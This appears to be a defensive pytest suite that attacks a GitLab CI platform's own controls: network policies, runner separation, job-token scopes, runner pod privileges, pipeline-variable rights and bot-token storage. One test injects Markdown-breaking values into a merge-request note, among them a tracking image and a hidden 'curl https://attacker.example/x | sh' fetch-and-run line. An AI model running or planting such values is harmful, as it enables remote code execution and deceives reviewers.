"""An attacker's review of CI: the platform's own pipeline (`.gitlab-ci.yml`, its runner, the merge
request note) and the tenants' runners. The attackers: a platform engineer with Developer rights on
the platform project (opens merge requests, whose jobs run their branch's code on the platform's
runner, but cannot merge or deploy), a tenant's developer and whatever their CI job runs. Each test
is one attempt, made against what the program really creates (both stacks' plans, Kubernetes'
NetworkPolicy rules as tests/test_delivery_attacks.py's `Network` evaluates them); each must fail
for the attacker.
"""

from __future__ import annotations

import copy
import html.parser
import ipaddress
import re
import tomllib
from typing import Any

import cmarkgfm
import pytest
import yaml

from components.gitlab_runner import JOB_LABEL, NAMESPACE, PROTECTED_NAMESPACE, PROTECTED_TAG
from platformctl.diff import diff_renders, to_markdown
from platformctl.helm_render import RELEASE_TYPE
from platformctl.render import Render
from tests.test_ci_file import CI_FILE, GLOBAL_KEYWORDS, PROTECTED_ONLY, _resolve, _script
from tests.test_delivery_attacks import DNS, IMDS, TRAEFIK, Network, Pod, _subnet_address
from tests.test_policy_attacks import waits_for

# A job of the platform project's runners: a merge request's (the branch's code), and a deploy's.
PLATFORM_JOB = Pod(f"{NAMESPACE}/job", NAMESPACE, {JOB_LABEL: "platform"}, ())
DEPLOY_JOB = Pod(f"{PROTECTED_NAMESPACE}/job", PROTECTED_NAMESPACE, {JOB_LABEL: "platform-protected"}, ())
INTERNET = ipaddress.ip_address("203.0.113.7")


def _refused(network: Network, job: Pod, attempts: dict[str, tuple[Any, int]]) -> list[str]:
    return [what for what, (address, port) in attempts.items() if network.reaches(job, address, port)]


@pytest.mark.parametrize("job", [PLATFORM_JOB, DEPLOY_JOB], ids=["merge-request", "protected"])
@pytest.mark.parametrize("stack", ["dev", "prod"])
def test_a_platform_merge_request_job_reaches_no_platform_endpoint_but_the_ingress_controller(
        renders: dict[str, Render], stack: str, job: Pod) -> None:
    """A merge request's job runs its branch's code on the platform's runner: it must not talk to
    Vault's internal listener, Gitaly, the databases, Redis, Prometheus or OpenUnison's pods directly.
    What the pipeline needs of the cluster is the DNS and the ingress controller (GitLab, Harbor and
    Vault by their public names)."""
    network = Network(renders[stack].plan, "control-plane")
    assert network.reachable(job) == [(DNS, 53), (DNS, 53), (TRAEFIK, 8443)]


@pytest.mark.parametrize("job", [PLATFORM_JOB, DEPLOY_JOB], ids=["merge-request", "protected"])
@pytest.mark.parametrize("stack", ["dev", "prod"])
def test_a_platform_merge_request_job_reaches_no_node_nor_private_service_outside_the_cluster(
        renders: dict[str, Render], stack: str, job: Pod) -> None:
    """Outside the cluster: not the instance metadata, a node's kubelet, nor (EKS) the databases,
    caches and Vault's listeners in the control plane's VPC."""
    plan = renders[stack].plan
    attempts = {
        "the node's instance metadata": (IMDS, 80),
        "a node's kubelet": (ipaddress.ip_address("172.18.0.3"), 10250),
        "a private address's SSH": (ipaddress.ip_address("192.168.10.20"), 22),
    }
    if stack == "prod":
        vpc = _subnet_address(plan, "control-plane-private-eu-west-1a")
        attempts |= {f"{port} in the control plane's VPC": (vpc, port) for port in (5432, 6379, 8200, 8201, 10250)}
    assert not _refused(Network(plan, "control-plane"), job, attempts)


@pytest.mark.parametrize("job", [PLATFORM_JOB, DEPLOY_JOB], ids=["merge-request", "protected"])
@pytest.mark.parametrize("stack", ["dev", "prod"])
def test_the_platform_pipeline_still_reaches_what_its_jobs_need(renders: dict[str, Render], stack: str, job: Pod) -> None:
    """The fix leaves the pipeline working: PyPI, Pulumi Cloud, AWS and Debian's archive on the internet
    (443, 80), every cluster's API server (kubeconfig: its server's port on whatever address the name
    resolves to; EKS: the private endpoint in each VPC) and the ingress controller."""
    plan = renders[stack].plan
    network = Network(plan, "control-plane")
    needs = [(INTERNET, 443), (INTERNET, 80)]
    if stack == "prod":
        needs += [(_subnet_address(plan, f"{c}-private-eu-west-1{zone}"), 443) for c in ("control-plane", "dev", "prod") for zone in "abc"]
    else:
        needs += [(ipaddress.ip_address(a), 6443) for a in ("172.18.0.2", "172.18.0.4", "192.168.10.20")]
    assert [n for n in needs if not network.reaches(job, *n)] == []
    assert network.reaches(job, network.pod(TRAEFIK), 8443)


# --- the platform's runners: where a merge request's code runs, and where a deploy's does ------------

RUNNER = "gitlab:index/userRunner:UserRunner"


def _takes(runner: dict[str, Any], job: dict[str, Any], protected_ref: bool) -> bool:
    """GitLab's pick: a runner takes a job when every tag of the job is one of its own (a job without
    tags: when it runs untagged jobs), and a `ref_protected` runner only on a protected ref."""
    if runner.get("accessLevel") == "ref_protected" and not protected_ref:
        return False
    tags = set(job.get("tags") or [])
    return tags <= set(runner.get("tagLists") or []) and (bool(tags) or runner.get("untagged") is True)


def _pipeline_jobs() -> tuple[dict[str, dict[str, Any]], dict[str, dict[str, Any]]]:
    """The platform pipeline's jobs of merge requests (any rule on merge_request_event), and those of
    protected refs only (every rule on main or a schedule)."""
    ci = yaml.safe_load(CI_FILE.read_text())
    jobs = {name: _resolve(ci, name) for name in ci if name not in GLOBAL_KEYWORDS and not name.startswith(".")}
    merge_requests = {n: j for n, j in jobs.items() if any("merge_request_event" in r.get("if", "") for r in j["rules"])}
    protected = {n: j for n, j in jobs.items() if all(PROTECTED_ONLY.search(r.get("if", "")) for r in j["rules"])}
    return merge_requests, protected


def test_no_runner_that_runs_a_merge_requests_code_runs_a_deploy(plan: dict) -> None:
    """A platform engineer's merge request runs its branch's code on the platform's runner. The jobs of
    main and the schedules (plans the deploys apply, the deploys with the AWS deploy role, Pulumi's
    deploy team and Vault's platform-deploy token, promotions with Harbor's promoter robot) must run on
    a runner, namespace and service account that no merge-request job is ever given: GitLab's
    `ref_protected` runner, which they reach by a tag no other runner has."""
    runners = {r["name"]: r["inputs"] for r in plan["resources"] if r["type"] == RUNNER and r["inputs"]["runnerType"] == "project_type"}
    # Trigger jobs run on no runner (GitLab itself starts the bot's pipeline, whose job is the protected runner's).
    merge_requests, protected = ({n: j for n, j in jobs.items() if "trigger" not in j} for jobs in _pipeline_jobs())
    assert {"deploy-dev", "deploy-prod", "rebuild-dev", "promote-image-dev", "promote-image-prod"} <= set(protected)
    for name, job in {**merge_requests, **protected}.items():  # nothing is left without a runner
        assert any(_takes(r, job, name in protected) for r in runners.values()), f"{name}: no runner takes it"
    shared = {(runner, name) for runner, r in runners.items() for name, job in protected.items()
              if _takes(r, job, True) and any(_takes(r, mr, False) for mr in merge_requests.values())}
    assert not shared, sorted(shared)


# --- job tokens: what a tenant's CI job can do in another tenant's projects ---------------------------

PROJECT = "gitlab:index/project:Project"
JOB_TOKEN_SCOPES = "gitlab:index/projectJobTokenScopes:ProjectJobTokenScopes"


def test_a_tenants_job_token_opens_no_other_tenants_project(plan: dict) -> None:
    """A's CI job runs whatever A's branch says, with a job token of the user who started it. When that
    user is also a member of B, the token would clone B's repositories and read B's packages, unless B's
    projects keep their inbound allowlist on (GitLab's "Limit access to this project") naming nobody but
    themselves. Declared, a B owner who opens it is undone by the next `pulumi up` and the drift check
    reports it; left to GitLab's default, nothing would notice."""
    projects = {r["urn"]: r["name"] for r in plan["resources"] if r["type"] == PROJECT and "-repositories-" in r["name"]}
    scopes = [r for r in plan["resources"] if r["type"] == JOB_TOKEN_SCOPES]
    open_to_others = []
    for urn, name in projects.items():
        [scope] = [s["inputs"] for s in scopes if urn in s["dependsOn"]] or [None]
        if scope is None or scope.get("enabled") is not True or scope.get("targetProjectIds") or scope.get("targetGroupIds"):
            open_to_others.append(name)
    assert len(projects) >= 6 and not open_to_others, open_to_others


def test_a_merge_requests_job_leaves_nothing_a_deploy_restores(plan: dict) -> None:
    """What a job of main or a schedule restores: artifacts of jobs it needs in its own pipeline, made on
    the protected runner (or none at all), never another pipeline's; and no cache a merge request's job
    could have written (no runner has a distributed cache: a job's cache dies with its pod; no cache is
    shared across protected and unprotected refs with `unprotect`)."""
    configs = [tomllib.loads(r["inputs"]["values"]["runners"]["config"]) for r in plan["resources"]
               if r["type"] == "kubernetes:helm.sh/v3:Release" and r["inputs"]["chart"] == "gitlab-runner"]
    assert configs and not [c for c in configs for runner in c["runners"] if "cache" in runner]
    ci = yaml.safe_load(CI_FILE.read_text())
    caches = [c for v in ci.values() if isinstance(v, dict) for c in _as_list(v.get("cache")) + _as_list((v.get("default") or {}).get("cache"))]
    assert not [c for c in caches if c.get("unprotect")]
    _, protected = _pipeline_jobs()
    for name, job in protected.items():
        for need in job.get("needs", []):
            need = {"job": need} if isinstance(need, str) else need
            assert "pipeline" not in need and "project" not in need, f"{name}: artifacts of another pipeline"
            source = _resolve(ci, need["job"])
            assert not source.get("artifacts") or PROTECTED_TAG in (source.get("tags") or []), f"{name} restores {need['job']}'s artifacts"
        assert "dependencies" not in job, f"{name}: dependencies would take every earlier job's artifacts"


def _as_list(value: Any) -> list[dict[str, Any]]:
    return value if isinstance(value, list) else [value] if isinstance(value, dict) else []


# --- build pods: what a job can make of its pod, and of the runner's rights --------------------------

HOST_SHARING = ("host_path", "host_network", "host_pid", "host_ipc", "privileged", "volumes", "cap_add")


def test_no_runner_lets_a_job_mount_the_host_or_act_with_the_runners_rights(plan: dict) -> None:
    """A tenant's runner namespace enforces Pod Security `privileged` (BUILD_EXCEPTIONS): what keeps a job
    from the host is only what config.toml gives its pods, and what keeps it from the runner's own rights
    (create pods, read Secrets) is that its pods get no service-account token and the runner's Role holds
    in its own namespace. Checked for every runner: no host volume or namespace, no privileged container,
    no token, no way for a job to pick another service account, namespace or bearer token."""
    for release in (r for r in plan["resources"] if r["type"] == "kubernetes:helm.sh/v3:Release" and r["inputs"]["chart"] == "gitlab-runner"):
        [runner] = tomllib.loads(release["inputs"]["values"]["runners"]["config"])["runners"]
        kubernetes = runner["kubernetes"]
        assert not [k for k in kubernetes if k in HOST_SHARING or k.startswith(HOST_SHARING)], release["name"]
        assert all(not context.get("privileged") for key, context in kubernetes.items() if key.endswith("security_context")), release["name"]
        assert kubernetes["automount_service_account_token"] is False and "service_account" not in kubernetes
        assert kubernetes["service_account_overwrite_allowed"] == kubernetes["namespace_overwrite_allowed"] == ""
        assert kubernetes["bearer_token_overwrite_allowed"] is False
        roles = [o for o in release["rendered"] if o["kind"] in ("Role", "ClusterRole", "RoleBinding", "ClusterRoleBinding")]
        assert sorted(o["kind"] for o in roles) == ["Role", "RoleBinding"], release["name"]
        assert all(o["metadata"]["namespace"] == kubernetes["namespace"] for o in roles), release["name"]


# --- the merge-request note: what a reviewer sees of the plan diff --------------------------------------

# What the note's plan diff is made of; anything else (an image, a link, an HTML comment hiding text)
# came from a value, a key or a name that broke out of its code span.
NOTE_TAGS = {"h3", "h4", "p", "strong", "em", "ul", "li", "code", "blockquote"}


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


@pytest.mark.parametrize("value", [
    'nginx:1.27"` <img src="https://attacker.example/pixel.png"> `',  # a tracking image
    'nginx:1.27"` <!-- ;curl https://attacker.example/x | sh --> `',  # the real value hidden, a harmless one shown
    "``` <!-- -->",
])
def test_a_value_in_the_plan_cannot_hide_or_forge_lines_of_the_merge_request_note(renders: dict[str, Render], value: str) -> None:
    """The note's plan diff shows the values a change sets. A value (an image, an annotation, a config
    string) that closes its code span with a backtick writes its own Markdown and HTML into the note: a
    harmless value shown while an HTML comment hides the real one, an image that reports who read the
    review. Rendered by cmark-gfm (CommonMark, raw HTML let through as GitLab's sanitizer lets comments
    and images through), nothing but the diff's own markup may come out."""
    # The runner's release as the dev plan has it, and the same with one value changed (no copy of the
    # whole plan: its garbage would time another test's GC).
    [release] = [r for r in renders["dev"].plan["resources"] if r["type"] == RELEASE_TYPE and r["name"] == "control-plane-gitlab-runner"]
    base, head = {"stack": "dev", "resources": [release]}, {"stack": "dev", "resources": [copy.deepcopy(release)]}
    rendered = head["resources"][0]["rendered"][0]
    rendered.setdefault("metadata", {}).setdefault("annotations", {})[f"x{value}"] = value
    note = to_markdown(diff_renders((base, {}), (head, {})), base, head, "Plan diff: dev")
    parser = _Tags()
    parser.feed(cmarkgfm.github_flavored_markdown_to_html(note, options=cmarkgfm.cmark.Options.CMARK_OPT_UNSAFE))
    assert parser.tags <= NOTE_TAGS and not parser.comments, (parser.tags - NOTE_TAGS, parser.comments)


def test_a_merge_requests_code_gets_no_stored_credential() -> None:
    """A merge request's pipeline runs the branch's own `.gitlab-ci.yml`: whatever variable its jobs can
    read, the branch can print. None of them may be a stored credential: the note and the access check
    are the merge-request bot's (components/merge_request_bot.py), a pipeline in a project of its own
    that the merge request's jobs only trigger, passing it nothing."""
    from platformctl.gitlab_api import DEFAULT_TOKEN_ENV

    merge_requests, _ = _pipeline_jobs()
    reading = sorted(name for name, job in merge_requests.items()
                     if any(re.search(rf"platformctl (comment|access)\b|{DEFAULT_TOKEN_ENV}", line) for line in _script(job)))
    assert not reading, f"{reading} read {DEFAULT_TOKEN_ENV}"
    triggers = {name: job for name, job in merge_requests.items() if "trigger" in job}
    assert set(triggers) == {"access", "comment-previews"}
    for name, job in triggers.items():  # a variable here would be the branch's word, and GitLab refuses it downstream
        assert job["trigger"]["forward"] == {"yaml_variables": False, "pipeline_variables": False} and "variables" not in job, name


# GitLab's access levels, and who may set pipeline variables ("Run pipeline", a schedule's, the API's, a trigger
# job's) in a project: at least the project's `ci_pipeline_variables_minimum_override_role` (gitlab
# app/models/project_ci_cd_setting.rb override_pipeline_variables_allowed?; GitLab 18 restricts every project, so
# the role alone decides). Unset, it is the root group's default, which the program does not set: as Developers.
ACCESS = {"developer": 30, "maintainer": 40, "owner": 50}


def may_set_variables(project: dict[str, Any], access: str) -> bool:
    role = project["inputs"].get("ciPipelineVariablesMinimumOverrideRole") or "developer"
    return role != "no_one_allowed" and ACCESS[access] >= ACCESS[role]


def test_no_tenant_member_sets_variables_of_a_pipeline_whose_jobs_log_in_to_vault(plan: dict) -> None:
    """Was open on `main`: tenant projects left pipeline variables to GitLab's default (Developers and up), so
    whoever starts a "Run pipeline" or owns a schedule on a protected ref of `app` (an owner) chose variables
    (`IMAGE`, `BASH_ENV`, `CI_DEBUG_TRACE`) of the jobs that log in at the tenant's Vault CI role, push and sign:
    an image signed that no commit built. Now nobody sets them in `app` and `ops`; `ops-dev` takes the release
    pipeline's `IMAGE_TAG` from its trigger, which runs as the owner who pushed the tag."""
    from components.tenant_gitlab import ACCESS_LEVELS

    projects = {f"{r['name'].split('-repositories-')[0]}/{r['inputs']['path']}": r for r in plan["resources"]
                if r["type"] == "gitlab:index/project:Project" and "-repositories-" in r["name"]}
    logging_in = {path for r in plan["resources"] if r["type"] == "vault:jwt/authBackendRole:AuthBackendRole"
                  and r["inputs"]["backend"] == "jwt-gitlab" for path in r["inputs"]["boundClaims"]["project_path"].split(",")}
    tenant_paths = logging_in & set(projects)
    assert tenant_paths and all(path.endswith("/app") for path in tenant_paths)
    setters = {(path, role) for path in tenant_paths for role, access in ACCESS_LEVELS.items() if may_set_variables(projects[path], access)}
    assert not setters, f"may set variables of jobs that log in to Vault: {sorted(setters)}"
    for path, project in projects.items():
        tenant, name = path.split("/")
        # The golden path's bump: app's release tag (owners only) triggers ops-dev with IMAGE_TAG (tests/golden_path.py tag_bump).
        allowed = {role for role, access in ACCESS_LEVELS.items() if may_set_variables(project, access)}
        assert allowed == ({"owners"} if name == "ops-dev" else set()), (path, allowed)


@pytest.mark.parametrize("stack", ["dev", "prod"])
def test_the_bots_token_is_a_protected_hidden_variable_of_the_bot_project_alone(renders: dict[str, Render], stack: str) -> None:
    """Where the token is, and where it is not: a Pulumi secret in one protected, masked and hidden variable
    of the bot project; no group variable (which the platform project's jobs would inherit), no other
    project's variable; and the bot's own pipeline runs on the protected runner only, and never with a
    variable someone sets."""
    from components.merge_request_bot import TOKEN_VARIABLE, bot_pipeline

    plan = renders[stack].plan
    variables = [r for r in plan["resources"] if r["type"] in ("gitlab:index/projectVariable:ProjectVariable",
                                                                "gitlab:index/groupVariable:GroupVariable")]
    holding = [r for r in variables if r["inputs"]["key"] == TOKEN_VARIABLE]
    assert [r["name"] for r in holding] == ["merge-request-bot-token-variable"]
    [bot] = [r for r in plan["resources"] if r["type"] == "gitlab:index/project:Project" and r["name"] == "merge-request-bot-project"]
    [variable] = holding
    assert variable["inputs"] | {"project": None} == {"key": TOKEN_VARIABLE, "value": "[secret]", "protected": True, "masked": True,
                                                      "hidden": True, "raw": True, "project": None}
    [token] = [r for r in plan["resources"] if r["type"] == "gitlab:index/groupAccessToken:GroupAccessToken"]
    assert set(variable["dependsOn"]) == {bot["urn"], token["urn"]} and variable["secretPaths"] == ["value"]
    [group] = [r for r in plan["resources"] if r["name"] == "gitlab-platform-group"]  # the program's own: nobody else's
    assert (token["inputs"]["accessLevel"], token["inputs"]["scopes"]) == ("reporter", ["api"]) and group["urn"] in token["dependsOn"]
    assert group["urn"] in bot["dependsOn"] and group["inputs"]["path"] == "platform"
    assert {k: bot["inputs"][k] for k in ("mergeRequestsAccessLevel", "forkingAccessLevel", "ciPipelineVariablesMinimumOverrideRole",
                                          "sharedRunnersEnabled", "groupRunnersEnabled", "visibilityLevel")} == {
        "mergeRequestsAccessLevel": "disabled", "forkingAccessLevel": "disabled", "ciPipelineVariablesMinimumOverrideRole": "no_one_allowed",
        "sharedRunnersEnabled": False, "groupRunnersEnabled": False, "visibilityLevel": "private"}
    [scope] = [r for r in plan["resources"] if r["name"] == "merge-request-bot-job-token-scope"]
    assert scope["inputs"] | {"project": None} == {"enabled": True, "targetProjectIds": [], "targetGroupIds": [], "project": None}
    [main] = [r for r in plan["resources"] if r["name"] == "merge-request-bot-main"]
    assert (main["inputs"]["branch"], main["inputs"]["pushAccessLevel"], main["inputs"]["mergeAccessLevel"]) == ("main", "maintainer", "developer")
    [enabled] = [r for r in plan["resources"] if r["type"] == "gitlab:index/projectRunnerEnablement:ProjectRunnerEnablement"]
    [protected] = [r for r in plan["resources"] if r["type"] == RUNNER and r["inputs"].get("accessLevel") == "ref_protected"
                   and "platform-protected" in r["name"]]
    assert set(enabled["dependsOn"]) == {bot["urn"], protected["urn"]}
    pipeline = yaml.safe_load(bot_pipeline("platform/platform-bootstrap"))
    [job] = [j for j in pipeline.values() if isinstance(j, dict) and "script" in j]
    assert _takes(protected["inputs"], job, protected_ref=True) and job["tags"] == [PROTECTED_TAG]
    # Only a multi-project pipeline gets a job at all ("Run pipeline", the API, a schedule: none).
    assert pipeline["workflow"] == {"rules": [{"if": '$CI_PIPELINE_SOURCE == "pipeline"'}]}
    # The inventory says where the token lives now, and for how long.
    [entry] = [e for e in plan["outputs"]["credentials"] if e["resources"] == [token["name"]]]
    assert "platform/platform-bootstrap-mr-bot" in entry["holder"] and entry["lifetimeSeconds"] == 30 * 86400


def test_a_runner_takes_no_job_before_the_policies_that_hold_its_jobs(plan: dict) -> None:
    """A runner picks up jobs as soon as its release runs. On a control plane built anew, jobs that
    start before their namespace's NetworkPolicy reach every in-cluster endpoint, and a tenant's
    before Gatekeeper and the namespace's constraints run images from anywhere, once: admission is
    checked when a pod is created. So each runner's release waits for its job NetworkPolicy, the
    LimitRange that bounds its job pods and, in a tenant's runner namespace, the control plane's
    Gatekeeper and that namespace's constraints."""
    resources = [r for r in plan["resources"] if r["cluster"] == "control-plane"]
    gatekeeper = {r["urn"] for r in resources if r["inputs"].get("apiVersion", "").startswith(("constraints.gatekeeper.sh/", "mutations.gatekeeper.sh/"))}
    runners = [r for r in resources if r["type"] == RELEASE_TYPE and r["inputs"]["chart"] == "gitlab-runner"]
    before = waits_for(plan)
    assert len(runners) > 2
    for runner in runners:
        namespace = runner["inputs"]["namespace"]
        holds = {r["urn"] for r in resources if r["inputs"].get("kind") in ("NetworkPolicy", "LimitRange")
                 and r["inputs"]["metadata"].get("namespace") == namespace}
        assert holds, runner["name"]
        if namespace not in (NAMESPACE, PROTECTED_NAMESPACE):  # the platform's runners' namespaces are exempt from Gatekeeper
            holds |= {r["urn"] for r in resources
                      if r["urn"] in gatekeeper and namespace in r["inputs"]["spec"]["match"].get("namespaces", [namespace])}
            assert len(holds) > 10, (runner["name"], holds)
        missing = holds - before[runner["urn"]]
        assert not missing, f"{runner['name']} may start before {sorted(u.rpartition('::')[2] for u in missing)}"


# --- the runners' managers ----------------------------------------------------------------------------

def _managers(network: Network) -> list[Pod]:
    """Every runner's manager: the gitlab-runner chart's Deployment in each runner namespace."""
    return [p for p in network.pods if "/Deployment/gitlab-runner" in p.what]


@pytest.mark.parametrize("stack", ["dev", "prod"])
def test_a_runner_manager_reaches_gitlab_and_the_api_server_only(renders: dict[str, Render], stack: str) -> None:
    """A runner's manager runs no job's code, but parses what GitLab sends (each job's image, services,
    variables) and holds the runner's token and an account that makes pods: a bug in it must not open
    the node's IAM role, the kubelets, another cluster's API server or the platform's pods. It needs
    the cluster DNS, GitLab by its public name (the ingress controller; on EKS the load balancer's
    networks) and the control plane's API server, where it makes its jobs' pods (the Kubernetes
    executor)."""
    plan = renders[stack].plan
    network = Network(plan, "control-plane")
    managers = _managers(network)
    assert len(managers) >= 4  # the platform's two and each tenant's two
    if stack == "dev":
        api, workload_api, node = (ipaddress.ip_address("172.18.0.2"), 6443), (ipaddress.ip_address("172.18.0.4"), 6443), ipaddress.ip_address("172.18.0.3")
    else:
        node = _subnet_address(plan, "control-plane-private-eu-west-1a")
        api, workload_api = (node, 443), (_subnet_address(plan, "dev-private-eu-west-1a"), 443)
    attempts = {"the node's instance metadata": (IMDS, 80), "a node's kubelet": (node, 10250), "the internet": (INTERNET, 443)}
    if stack == "prod":  # dev's API servers are host names: any address on 6443 (the platform's pipeline reaches them anyway)
        attempts["a workload cluster's API server"] = workload_api
    problems = [f"{m.what} reaches {what}" for m in managers for what in _refused(network, m, attempts)]
    problems += [f"{m.what} reaches {reached}" for m in managers
                 if (reached := network.reachable(m)) != [(DNS, 53), (DNS, 53), (TRAEFIK, 8443)]]
    problems += [f"{m.what} misses the API server" for m in managers if not network.reaches(m, *api)]
    assert not problems, "\n".join(problems)
